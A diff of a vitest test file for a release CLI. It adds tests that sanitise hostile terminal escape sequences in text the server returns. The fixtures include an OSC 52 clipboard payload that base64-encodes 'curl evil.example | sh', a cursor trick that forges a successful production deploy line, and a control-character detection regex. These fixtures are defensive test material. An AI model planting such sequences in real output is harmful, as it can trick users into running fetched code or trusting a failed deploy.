@@ -3,11 +3,20 @@
 import { describe, expect, it } from 'vitest';
 import { describeApiError } from '../../cli/api-client.js';
 import type { Release } from '../../cli/api-types.js';
+import { healthTable } from '../../cli/commands/health-check-command.js';
 import { formatMetricValue } from '../../cli/commands/metrics-command.js';
 import { formatDuration, parseDuration, parseInstant } from '../../cli/durations.js';
 import { EXIT, EXIT_CODES_HELP, exitCodeForStatus } from '../../cli/exit-codes.js';
-import { formatTable, paletteFor, visibleLength, wantsColour } from '../../cli/output.js';
-import { gateText, releaseFacts, releaseFrame } from '../../cli/release-view.js';
+import {
+  fitToWidth,
+  formatTable,
+  paletteFor,
+  printable,
+  printableStrings,
+  visibleLength,
+  wantsColour,
+} from '../../cli/output.js';
+import { gateText, outcomeLine, releaseFacts, releaseFrame } from '../../cli/release-view.js';
 import { RELEASE_STATUSES } from '../../workflows/release-model.js';
 
 describe('exit codes', () => {
@@ -376,5 +385,137 @@ describe('a release as the command shows it', () => {
       'stopped at change-approval: rejected by tl-zhang: legal hold',
       'status rejected',
     ]);
+  });
+});
+
+// What a hostile deploy script, reason or proxy could put in the text the server hands back.
+const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
+const FAKE_SUCCESS = 'boom\x1b[1A\x1b[2K\r  ✓ deploy-production  production  4.2s';
+const BELL_AND_DELETE = 'ring\x07 rub\x7f out';
+const C1 = 'c1 \u009b31m csi \u009d0;title\u009c end';
+const LINES = 'first\nsecond\r\nthird\tfourth';
+// Any C0 or C1 control character, or DEL: none may reach the terminal from the server.
+// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
+const CONTROL = /[\x00-\x1f\x7f-\x9f]/;
+
+describe('text from the server, shown and never obeyed', () => {
+  it('drops escape sequences, makes line breaks spaces and shows any other control character as �', () => {
+    expect(printable(`copied${OSC52} here`)).toBe('copied here');
+    expect(printable(FAKE_SUCCESS)).toBe('boom   ✓ deploy-production  production  4.2s');
+    expect(printable(BELL_AND_DELETE)).toBe('ring� rub� out');
+    expect(printable(C1)).toBe('c1 �31m csi �0;title� end');
+    expect(printable(LINES)).toBe('first second third fourth');
+    expect(printable('a lone \x1b escape, \x1b]52;c;unterminated')).toBe(
+      'a lone � escape, �]52;c;unterminated',
+    );
+    expect(printable('\x1b[31mcoloured\x1b[39m stderr')).toBe('coloured stderr');
+    expect(printable('部署失败: 超时')).toBe('部署失败: 超时');
+    for (const text of [OSC52, FAKE_SUCCESS, BELL_AND_DELETE, C1, LINES])
+      expect(printable(text)).not.toMatch(CONTROL);
+  });
+
+  it('makes every string of an answer printable, whatever its depth, and leaves other values alone', () => {
+    expect(
+      printableStrings({ a: [`x${OSC52}`, { b: 'y\nz', n: 3, t: true, none: null }], c: undefined }),
+    ).toEqual({ a: ['x', { b: 'y z', n: 3, t: true, none: null }], c: undefined });
+  });
+
+  it("keeps an API error's body to one printable line", () => {
+    expect(describeApiError(500, { message: `<html>\n${OSC52}Internal\x1b[2J error\r\n</html>` })).toBe(
+      '500 Internal Server Error: <html> Internal error </html>',
+    );
+    expect(describeApiError(409, { message: 'busy', activeReleaseId: `edm-web\x1b]0;x\x07-1` })).toBe(
+      '409 Conflict: busy (in flight: edm-web-1)',
+    );
+  });
+
+  it('shows a release whose step errors, reasons and undos carry escapes as plain one-line text', () => {
+    const hostile = {
+      ...releaseAtGate(),
+      status: 'rolled-back',
+      pendingGate: null,
+      finishedAt: at(300),
+      changeRef: `CHG-7${OSC52}`,
+      steps: [
+        {
+          ...releaseAtGate().steps[0],
+          status: 'failed',
+          error: `deploy.sh exited 1: ${FAKE_SUCCESS}\n${OSC52}`,
+        },
+      ],
+      rollbackPlan: [
+        {
+          id: 'undo-1',
+          stepId: 'deploy-test',
+          environment: 'test',
+          description: `restore 1.0.0${BELL_AND_DELETE}\nsecond line`,
+          status: 'done',
+          detail: null,
+          startedAt: at(200),
+          finishedAt: at(210),
+          durationMs: 10_000,
+        },
+      ],
+      pendingRollbackOrder: {
+        requestedBy: 'ops-wang',
+        reason: `why${C1}`,
+        at: at(190),
+        environment: 'production',
+      },
+      rollback: { cause: 'manual', reason: `error rate\r\n${FAKE_SUCCESS}`, orderedBy: ['ops-wang'] },
+      failure: { step: 'deploy-test', reason: LINES },
+    } as unknown as Release;
+    const shown = [
+      ...releaseFrame(hostile, T0 + 400_000, paletteFor(false)),
+      ...releaseFacts(hostile),
+      outcomeLine(hostile, T0 + 400_000, paletteFor(false)),
+    ];
+    for (const line of shown) expect(line).not.toMatch(CONTROL);
+    expect(shown).toContain(
+      '  ✗ deploy-test      test        4.2s     deploy.sh exited 1: boom   ✓ deploy-production  production  4.2s',
+    );
+    expect(shown).toContain('  ↺ undo restore 1.0.0ring� rub� out second line: done in 10s');
+    expect(shown).toContain(
+      'rollback (manual by ops-wang): error rate boom   ✓ deploy-production  production  4.2s',
+    );
+    // Coloured on a terminal: the palette's own escapes are the only ones.
+    const coloured = releaseFrame(hostile, T0 + 400_000, paletteFor(true)).join('\n');
+    expect(coloured).not.toContain('\x1b]');
+    expect(coloured).not.toContain('\x1b[1A');
+    expect(coloured).not.toContain('\x07');
+  });
+
+  it("shows a health check's detail and an unreachable target's error as plain text", () => {
+    const lines = healthTable(
+      [
+        {
+          ok: true,
+          service: 'edm-web',
+          environment: 'test',
+          healthy: false,
+          checkedAt: at(0),
+          checks: [{ name: 'health', passed: false, latencyMs: 5, detail: `status 500${OSC52}\nfake` }],
+        },
+        {
+          ok: false,
+          service: 'edm-web',
+          environment: 'staging',
+          error: { status: 502, message: `bad gateway${FAKE_SUCCESS}` },
+        },
+      ],
+      paletteFor(false),
+    );
+    for (const line of lines) expect(line).not.toMatch(CONTROL);
+    expect(lines.join('\n')).toContain('✗ health 5ms (status 500 fake)');
+  });
+
+  it('measures wide characters as two columns and cuts a line to the width with …', () => {
+    expect(visibleLength('部署')).toBe(4);
+    expect(visibleLength('e\u0301')).toBe(1);
+    expect(fitToWidth('short', 10)).toBe('short');
+    expect(fitToWidth('abcdefghijkl', 10)).toBe('abcdefghi…');
+    expect(fitToWidth('部署失败超时了', 10)).toBe('部署失败…');
+    expect(visibleLength(fitToWidth('部署失败超时了', 10))).toBeLessThanOrEqual(10);
+    expect(fitToWidth(paletteFor(true).green('abcdefghijkl'), 10)).toBe('abcdefghi…');
   });
 });
